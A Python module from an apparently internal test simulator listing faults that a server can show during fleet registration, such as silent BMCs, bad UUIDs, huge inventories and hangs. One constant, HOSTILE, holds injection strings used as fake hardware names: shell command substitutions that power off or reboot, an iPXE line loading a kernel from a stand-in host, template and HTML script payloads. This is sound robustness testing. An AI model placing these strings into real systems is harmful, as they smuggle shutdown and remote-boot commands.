"""What can be wrong with a machine when it registers."""

import random
from dataclasses import replace

from simulator.bmc import BmcFaults
from simulator.fault import (
    DARK_AND_READY,
    QUARANTINED,
    READY,
    REGISTER_FAILED,
    REGISTERING,
    UNREGISTERED,
    Fault,
    Outcome,
    Outputs,
    Trick,
)
from simulator.hardware.identity import Identity

HOSTILE = (
    "X11\"; reboot #'$(poweroff)`poweroff`\n#!ipxe\nkernel http://203.0.113.1/x || boot\n"
    "\x1b[2J\x07{{7*7}}{% debug %}<script>alert(1)</script>%s ${net0/mac} \\"
)
AMI_DEFAULT_UUID = "03000200-0400-0500-0006-000700080009"
NO_UUID = "00000000-0000-0000-0000-000000000000"
HUGE_OUTPUT = 900_000  # bytes for each of three programs: together over the limit of 2 MiB


def _twin_uuid(identity: Identity, twin: Identity) -> Identity:
    return replace(identity, uuid=twin.uuid)


def _ami_uuid(identity: Identity, _twin: Identity) -> Identity:
    return replace(identity, uuid=AMI_DEFAULT_UUID)


def _no_uuid(identity: Identity, _twin: Identity) -> Identity:
    return replace(identity, uuid=NO_UUID)


def _hostile_strings(identity: Identity, _twin: Identity) -> Identity:
    ports = [replace(p, nic=replace(p.nic, firmware=HOSTILE)) for p in identity.ports]
    disks = [replace(d, disk=replace(d.disk, model=HOSTILE)) for d in identity.disks]
    return replace(identity, product=HOSTILE, ports=tuple(ports), disks=tuple(disks))


def _garbage(outputs: Outputs) -> Outputs:
    size = len(outputs.dmidecode)
    return replace(outputs, dmidecode=random.Random(outputs.dmidecode).randbytes(size))


def _huge(outputs: Outputs) -> Outputs:
    line = b"\t\tStrings and strings and strings of an OEM, line after line\n"
    lines = line * (HUGE_OUTPUT // len(line))
    blanks = b" " * HUGE_OUTPUT
    return replace(
        outputs,
        dmidecode=outputs.dmidecode + lines,
        lsblk=blanks + outputs.lsblk,
        ip_link=blanks + outputs.ip_link,
    )


LIT_AND_FAILED = Outcome(REGISTER_FAILED, lit=True)
LIT_AND_QUARANTINED = Outcome(QUARANTINED, lit=True)
LIT_AND_UNKNOWN = Outcome(UNREGISTERED, lit=True)

REGISTRATION_FAULTS = (
    Fault(
        "lost-bmc",
        "the BMC never answers over the network",
        LIT_AND_FAILED,
        bmc=BmcFaults(silent=True),
        issues=("BMC-001",),
    ),
    Fault(
        "bmc-wrong-password",
        "the BMC takes the password and keeps another",
        LIT_AND_FAILED,
        bmc=BmcFaults(wrong_password=True),
        issues=("BMC-002",),
    ),
    Fault(
        "bmc-ignores-lan-set",
        "the BMC shows its new address and never uses it",
        LIT_AND_FAILED,
        bmc=BmcFaults(ignores_lan_set=True),
        issues=("BMC-001",),
    ),
    Fault(
        "bmc-slow",
        "each answer of the BMC takes 0.3 s",
        DARK_AND_READY,
        bmc=BmcFaults(slow_s=0.3),
    ),
    Fault(
        "duplicate-uuid",
        "has the UUID of another machine of the fleet",
        LIT_AND_QUARANTINED,
        identity=_twin_uuid,
        issues=("ID-003",),
    ),
    Fault(
        "bad-uuid",
        "has the UUID that a firmware vendor gave to thousands",
        LIT_AND_QUARANTINED,
        identity=_ami_uuid,
        issues=("ID-002",),
    ),
    Fault(
        "no-uuid",
        "has no UUID at all",
        LIT_AND_QUARANTINED,
        identity=_no_uuid,
        issues=("ID-001",),
    ),
    Fault(
        "garbage-dmidecode",
        "dmidecode prints random bytes",
        LIT_AND_QUARANTINED,
        outputs=_garbage,
        issues=("ID-001",),
    ),
    Fault(
        "huge-inventory",
        "its inventory is larger than 2 MiB",
        LIT_AND_UNKNOWN,
        outputs=_huge,
    ),
    Fault(
        "no-network",
        "its link dies between iPXE and stage one",
        LIT_AND_UNKNOWN,
        trick=Trick.LOSES_NETWORK,
    ),
    Fault(
        "hangs",
        "freezes in the middle of register.sh",
        LIT_AND_FAILED,
        at_first=Outcome(REGISTERING, lit=True),
        trick=Trick.FREEZES,
        issues=("REG-002",),
    ),
    Fault(
        "stays-on",
        "registers and does not switch off",
        LIT_AND_FAILED,
        at_first=Outcome(READY, lit=True),
        trick=Trick.STAYS_ON,
        issues=("REG-009",),
    ),
    Fault(
        "power-cut",
        "loses power in the middle and is switched on again",
        DARK_AND_READY,
        trick=Trick.LOSES_POWER,
    ),
    Fault(
        "hostile-strings",
        "its names are shell, iPXE, HTML and terminal commands",
        DARK_AND_READY,
        identity=_hostile_strings,
    ),
)
